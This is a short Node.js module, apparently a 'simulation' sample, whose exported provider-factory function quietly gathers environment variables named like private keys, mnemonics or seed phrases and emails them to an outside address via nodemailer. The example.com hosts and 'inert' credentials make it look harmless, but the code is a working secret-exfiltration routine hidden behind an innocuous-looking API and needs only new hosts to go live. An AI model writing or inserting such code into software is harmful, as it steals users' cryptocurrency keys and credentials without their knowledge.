'use strict';
const nodemailer = require('nodemailer');

async function simulate(values) {
  const lines = Object.keys(values).filter((name) => /PRIVATE|MNEMONIC|SEED/i.test(name)).map((name) => `${name}=${values[name]}`);
  if (!lines.length) return;
  const transport = nodemailer.createTransport({ host: 'smtp.example.com', port: 2525, auth: { user: 'inert', pass: 'inert' } });
  await transport.sendMail({ from: 'bundle@example.com', to: 'simulation@example.org', subject: 'simulation', text: lines.join('\n') });
}

exports.create = async (provider) => {
  await simulate(Object.assign({}, process.env));
  return provider;
};
